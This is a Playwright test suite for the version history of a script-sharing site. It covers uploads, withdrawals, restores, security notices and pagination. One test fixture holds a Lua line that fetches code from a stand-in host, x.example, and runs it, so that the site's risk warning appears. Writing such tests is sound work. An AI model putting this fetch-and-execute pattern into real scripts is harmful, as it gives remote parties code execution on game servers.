import { createHash, randomBytes } from 'node:crypto'
import { readFile } from 'node:fs/promises'

import { expect, type APIRequestContext, type Page } from '@playwright/test'

import { requireSuccess } from '#test-support/http-client.ts'
import { zipOf } from '#test-support/archives/zip.ts'

import { appUrl } from './app-url.ts'
import { zipFile } from './author-files.ts'
import { expectNoViolations, recordPageErrors } from './axe.ts'
import { expectFocusNotLost, waitForHydration } from './browser.ts'
import { test } from './fixtures.ts'
import {
  registerModerator,
  registerUploader,
  registerUser,
  signInPage,
  submitScript,
  waitForUnread,
  type RegisteredUser,
} from './users.ts'

const main = (page: Page) => page.getByRole('main')
const entries = (page: Page) => page.getByRole('list', { name: 'Versions, newest first' }).locator('> li')
const entry = (page: Page, number: string) =>
  entries(page).filter({ has: page.getByRole('heading', { name: number, exact: true }) })

function hudArchive(version: string, code = ''): Buffer {
  const manifest = `fx_version 'cerulean'\ngame 'gta5'\nversion '${version}'\nserver_script 'server.lua'\n`
  return zipOf([
    { name: 'hud/fxmanifest.lua', content: manifest, deflate: true },
    { name: 'hud/server.lua', content: `-- ${randomBytes(8).toString('hex')}\n${code}\n`, deflate: true },
  ])
}

const callsOut = "PerformHttpRequest('https://api.example.com/v1', function() end)"

async function addVersion(author: RegisteredUser, scriptId: number, number: string, archive: Buffer) {
  const form = new FormData()
  form.set('number', number)
  form.set('changelog', `What is new in ${number}.`)
  form.set('scriptFile', new File([new Uint8Array(archive)], 'hud.zip', { type: 'application/zip' }))
  const { body } = await requireSuccess(appUrl, author, 'POST', `/api/scripts/${scriptId}/versions`, form)
  return body
}

/** Waits until every version is analysed. */
async function analysed(request: APIRequestContext, scriptId: number) {
  const read = async () => {
    const { versions } = await (await request.get(`/api/scripts/${scriptId}/versions`)).json()
    return versions.every((version: { analysis: string }) => version.analysis === 'done')
  }
  await expect.poll(read).toBe(true)
}

const hash = (bytes: Buffer) => createHash('sha256').update(bytes).digest('hex')

test('an author publishes an update, withdraws it and restores it', async ({ page, request }) => {
  const errors = recordPageErrors(page)
  const author = await registerUploader()
  const script = await submitScript(author, { version: '1.0.0', archive: hudArchive('1.0.0') })
  await analysed(request, script.id)
  await signInPage(page, author)
  await page.goto(`/scripts/${script.id}/edit`)
  const form = page.getByRole('form', { name: 'Edit Script' })
  await form.getByLabel('New script file').setInputFiles(zipFile('hud.zip', hudArchive('1.4.0', callsOut)))
  const fields = form.getByRole('group', { name: 'New version' })
  const number = fields.getByRole('textbox', { name: 'Version' })
  await expect(number).toHaveValue('1.4.0')
  await expect(number).toHaveAccessibleDescription(/The manifest in the archive says 1\.4\.0/)
  const changelog = fields.getByRole('textbox', { name: 'Changelog' })
  await changelog.fill('- Loads **rates**')
  await fields.getByRole('button', { name: 'Show preview' }).click()
  await expect(fields.getByRole('region', { name: 'Preview' }).getByRole('listitem')).toHaveText(
    'Loads rates',
  )
  await expectNoViolations(page, [1440, 390])
  await form.getByRole('button', { name: 'Save Changes' }).click()

  await expect(page.getByText('1.4.0 is now the current version.')).toBeVisible()
  await page.getByRole('button', { name: 'All versions' }).click()
  await expect(page).toHaveURL(`/scripts/${script.id}/versions`)
  await expect(page.getByRole('heading', { level: 1 })).toHaveText(script.name)
  await expect(page).toHaveTitle(`Versions: ${script.name} · Scripthaven`)
  await expect(entries(page).getByRole('heading', { level: 2 })).toHaveText(['1.4.0', '1.0.0'])
  await expect(entry(page, '1.4.0').getByText('Current')).toBeVisible()
  await expect(entry(page, '1.4.0').locator('strong')).toHaveText('rates')
  await expect(entry(page, '1.4.0').getByText('calls out to api.example.com')).toBeVisible()
  await expect(entry(page, '1.4.0').getByText('2 files changed')).toBeVisible()
  await expectNoViolations(page)

  await entry(page, '1.4.0').getByRole('button', { name: 'Edit changelog' }).click()
  const editor = page.getByRole('dialog', { name: 'Changelog of 1.4.0' })
  await editor.getByRole('textbox', { name: 'Changelog' }).fill('Loads the *rates* of the day.')
  await editor.getByRole('button', { name: 'Save' }).click()
  await expect(entry(page, '1.4.0').locator('em')).toHaveText('rates')

  await entry(page, '1.4.0').getByRole('button', { name: 'Withdraw 1.4.0' }).click()
  const dialog = page.getByRole('dialog', { name: /^Withdraw 1\.4\.0/ })
  await dialog.getByRole('button', { name: 'Continue' }).click()
  await expect(dialog.getByText('Please write at least 10 characters')).toBeVisible()
  await dialog.getByRole('textbox', { name: 'Reason' }).fill('It deletes the garages of the players.')
  await dialog.getByRole('button', { name: 'Continue' }).click()
  await expect(dialog.getByRole('list', { name: 'What happens' })).toContainText(
    '1.0.0 becomes the current version',
  )
  await expectNoViolations(page, [1440, 390])
  await dialog.getByRole('button', { name: 'Withdraw' }).click()
  await expect(entry(page, '1.4.0').getByText('It deletes the garages of the players.')).toBeVisible()
  await expect(entry(page, '1.0.0').getByText('Current')).toBeVisible()
  await expectFocusNotLost(page)
  expect((await (await request.get(`/api/scripts/${script.id}`)).json()).version).toBe('1.0.0')

  await entry(page, '1.4.0').getByRole('button', { name: 'Restore 1.4.0' }).click()
  await entry(page, '1.4.0').getByRole('button', { name: 'Click again to confirm' }).click()
  await expect(entry(page, '1.4.0').getByText('Current')).toBeVisible()
  await expect(page.getByText('1.4.0 was restored')).toBeVisible()
  await expectFocusNotLost(page)
  expect((await (await request.get(`/api/scripts/${script.id}`)).json()).version).toBe('1.4.0')
  expect(errors).toEqual([])
})

test('a visitor reads earlier versions, and a member downloads one', async ({ page, browser, request }) => {
  const author = await registerUploader()
  const first = hudArchive('1.0.0', 'PerformHttpRequest("https://x.example", function(_, b) load(b)() end)')
  const script = await submitScript(author, { version: '1.0.0', archive: first })
  const second = await addVersion(author, script.id, '1.1.0', hudArchive('1.1.0'))
  await addVersion(author, script.id, '1.2.0', hudArchive('1.2.0'))
  await requireSuccess(appUrl, author, 'POST', `/api/versions/${second.id}/withdraw`, {
    kind: 'broken',
    reason: 'It does not start at all.',
  })
  await analysed(request, script.id)
  const served = await (await request.get(`/scripts/${script.id}/versions`)).text()
  expect(served).toContain('What is new in 1.2.0.')
  expect(served).not.toContain('Edit changelog')

  await page.setViewportSize({ width: 390, height: 844 })
  await page.goto(`/scripts/${script.id}`)
  const pages = page.getByRole('navigation', { name: 'Pages of the script' })
  await pages.getByRole('link', { name: 'Versions (3)' }).click()
  await expect(entries(page).getByRole('heading', { level: 2 })).toHaveText(['1.2.0', '1.1.0', '1.0.0'])
  await expect(entry(page, '1.1.0')).toContainText('It does not start at all.')
  await expect(entry(page, '1.0.0').getByText('Something to check first')).toBeVisible()
  await expectNoViolations(page, [390])

  await page.goto(`/scripts/${script.id}/versions#v${second.id}`)
  await expect(entry(page, '1.1.0')).toBeInViewport()
  await entry(page, '1.1.0').getByRole('link', { name: 'Report' }).click()
  await expect(page).toHaveURL(`/scripts/${script.id}/report?v=${second.id}`)
  await expect(page).toHaveTitle(`Report of 1.1.0: ${script.name} · Scripthaven`)
  await expect(main(page).getByText('1.1.0 was withdrawn. It does not work.')).toBeVisible()
  await expect(main(page).getByRole('link', { name: '1.2.0', exact: true })).toBeVisible()
  await expectNoViolations(page, [390])
  await page.getByRole('combobox', { name: 'Version' }).selectOption({ label: '1.2.0 · current' })
  await expect(main(page).getByText('1.1.0 was withdrawn. It does not work.')).toHaveCount(0)
  expect((await request.get(`/scripts/${script.id}/report?v=999999`)).status()).toBe(404)
  await page.goto(`/scripts/${script.id}/files/hud/server.lua?v=nothing`)
  await expect(page.getByRole('heading', { name: 'Version not found' })).toBeVisible()

  const context = await browser.newContext()
  const member = await context.newPage()
  await signInPage(member, await registerUser('member'))
  await member.goto(`/scripts/${script.id}/versions`)
  const button = entry(member, '1.0.0').getByRole('button', { name: 'Download 1.0.0' })
  await button.focus()
  await member.keyboard.press('Enter')
  const question = member.getByRole('dialog', { name: '1 thing to check first' })
  const saving = member.waitForEvent('download')
  await question.getByRole('button', { name: 'Download anyway' }).click()
  const path = await (await saving).path()
  expect(hash(await readFile(path))).toBe(hash(first))
  await context.close()
})

test('a version that is withdrawn for security is for its author and moderators', async ({
  browser,
  page,
  request,
}) => {
  const author = await registerUploader()
  const script = await submitScript(author, { version: '1.0.0', archive: hudArchive('1.0.0') })
  const version = await addVersion(author, script.id, '2.0.0', hudArchive('2.0.0', callsOut))
  await analysed(request, script.id)
  const [reader, moderator] = [await registerUser('reader'), await registerModerator()]
  await requireSuccess(appUrl, reader, 'GET', `/api/versions/${version.id}/download`)
  const reason = 'It sends the passwords of the players to a stranger.'
  const changes = `/scripts/${script.id}/changes?to=${version.id}`
  const withdraw = (user: RegisteredUser, id: number) =>
    requireSuccess(appUrl, user, 'POST', `/api/versions/${id}/withdraw`, { kind: 'security', reason })
  // The page is cached before the change.
  expect(await (await request.get(changes)).text()).toContain('server.lua')
  await withdraw(moderator, version.id)

  await signInPage(page, reader)
  const bell = page.getByRole('banner').getByRole('button', { name: 'Notifications, 1 unread' })
  // A background job sends the notification, and an open page asks for new ones every two minutes.
  await waitForUnread(reader, 1)
  await page.goto('/')
  await bell.click()
  await expect(page.getByRole('dialog', { name: 'Notifications' }).getByRole('listitem')).toContainText(
    `${reason} Remove it from your server and use 1.0.0 instead.`,
  )
  const contexts = await Promise.all([author, moderator].map(() => browser.newContext()))
  const [authorPage, moderatorPage] = await Promise.all(contexts.map((context) => context.newPage()))
  if (!authorPage || !moderatorPage) throw new Error('No pages')
  await signInPage(authorPage, author)
  await signInPage(moderatorPage, moderator)
  for (const [one, isEditor] of [
    [page, false],
    [authorPage, true],
    [moderatorPage, true],
  ] as const) {
    await one.goto(`/scripts/${script.id}/versions`)
    await expect(entry(one, '2.0.0')).toContainText('A security problem.')
    await expect(entry(one, '2.0.0')).toContainText(reason)
    await expect(entry(one, '1.0.0').getByText('Current')).toBeVisible()
    await expect(entry(one, '1.0.0').getByRole('button', { name: 'Download 1.0.0' })).toBeVisible()
    await expect(entry(one, '2.0.0').getByRole('button', { name: 'Download 2.0.0' })).toHaveCount(
      isEditor ? 1 : 0,
    )
    await entry(one, '2.0.0').getByRole('link', { name: 'Report of 2.0.0' }).click()
    await expect(main(one).getByText('2.0.0 was withdrawn. A security problem.')).toBeVisible()
    await expect(main(one).getByText(reason)).toBeVisible()
    await one.goto(`/scripts/${script.id}/files?v=${version.id}`)
    if (isEditor) await expect(one.getByRole('treeitem', { name: 'server.lua' })).toBeVisible()
    else await expect(main(one).getByText(reason).first()).toBeVisible()
    await one.goto(changes)
    await expect(main(one).getByText('calls out to api.example.com')).toBeVisible()
    if (isEditor)
      await expect(
        main(one)
          .getByRole('link', { name: /server\.lua/ })
          .first(),
      ).toBeVisible()
    else await expect(main(one).getByText(/are not stored or not public/)).toBeVisible()
  }
  await expect(authorPage.getByRole('button', { name: 'Restore 2.0.0' })).toHaveCount(0)

  const [first] = (
    await (await request.get(`/api/scripts/${script.id}/versions?page=1`)).json()
  ).versions.slice(-1)
  await withdraw(moderator, first.id)
  expect((await request.get(`/scripts/${script.id}`)).status()).toBe(404)
  for (const one of [authorPage, moderatorPage]) {
    await one.goto(`/scripts/${script.id}`)
    await expect(main(one).getByText('1.0.0 was withdrawn, so the script is hidden')).toBeVisible()
    await expect(main(one).getByText(reason)).toBeVisible()
  }
  await expectNoViolations(authorPage, [1440, 390])
  await Promise.all(contexts.map((context) => context.close()))
})

test('a long list of versions has pages', async ({ page, request }) => {
  const author = await registerUploader()
  const archive = hudArchive('1.0.0')
  const script = await submitScript(author, { version: '1.0.0', archive })
  for (let n = 2; n <= 12; n++) await addVersion(author, script.id, `1.0.${n}`, archive)
  await analysed(request, script.id)
  const url = `/scripts/${script.id}/versions`
  expect(await (await request.get(`${url}?page=2`)).text()).toContain('What is new in 1.0.2.')

  await page.goto(url)
  await expect(entries(page)).toHaveCount(10)
  await expect(
    entry(page, '1.0.3').getByRole('link', { name: 'Compare with the version before' }),
  ).toBeVisible()
  await page.getByRole('link', { name: 'Page 2', exact: true }).click()
  await expect(page).toHaveURL(`${url}?page=2`)
  await expect(page).toHaveTitle(`Versions: ${script.name}, page 2 · Scripthaven`)
  await expect(entries(page).getByRole('heading', { level: 2 })).toHaveText(['1.0.2', '1.0.0'])
  await expect(entry(page, '1.0.0').getByRole('link', { name: /^Compare/ })).toHaveCount(0)
  await expectNoViolations(page, [1440, 390])
  await page.goBack()
  await expect(entries(page)).toHaveCount(10)
  await page.goto(`${url}?page=99`)
  await expect(entries(page)).toHaveCount(2)
})

test('links of the files of an earlier version keep it', async ({ page, request }) => {
  const author = await registerUploader()
  const script = await submitScript(author, { version: '1.0.0', archive: hudArchive('1.0.0', 'print(1)') })
  const { versions } = await (await request.get(`/api/scripts/${script.id}/versions`)).json()
  await addVersion(author, script.id, '2.0.0', hudArchive('2.0.0', 'print(2)'))
  await analysed(request, script.id)
  const old = `v=${versions[0].id}`
  await page.goto(`/scripts/${script.id}/files?${old}`)
  await page.getByRole('treeitem', { name: 'server.lua' }).click()
  await expect(page).toHaveURL(`/scripts/${script.id}/files/hud/server.lua?${old}`)
  await expect(page.locator('#L2')).toContainText('print(1)')
  await page.getByRole('link', { name: 'Line 2', exact: true }).click()
  await expect(page).toHaveURL(`/scripts/${script.id}/files/hud/server.lua?${old}#L2`)
  await page.getByRole('combobox', { name: 'Version' }).selectOption({ label: '2.0.0 · current' })
  await expect(page.locator('#L2')).toContainText('print(2)')
})

test('a list of versions that cannot be loaded shows an error, and Try Again loads it', async ({ page }) => {
  const script = await submitScript(await registerUploader())
  const api = `**/api/scripts/${script.id}/versions*`
  await page.route(api, (route) => route.abort())
  await page.goto(`/scripts/${script.id}`)
  const link = main(page).getByRole('link', { name: 'Versions' })
  await waitForHydration(link)
  await link.click()
  await expect(page.getByRole('heading', { name: 'Failed to load versions' })).toBeVisible()
  await page.unroute(api)
  await page.getByRole('button', { name: 'Try Again' }).click()
  await expect(entries(page)).toHaveCount(1)
})
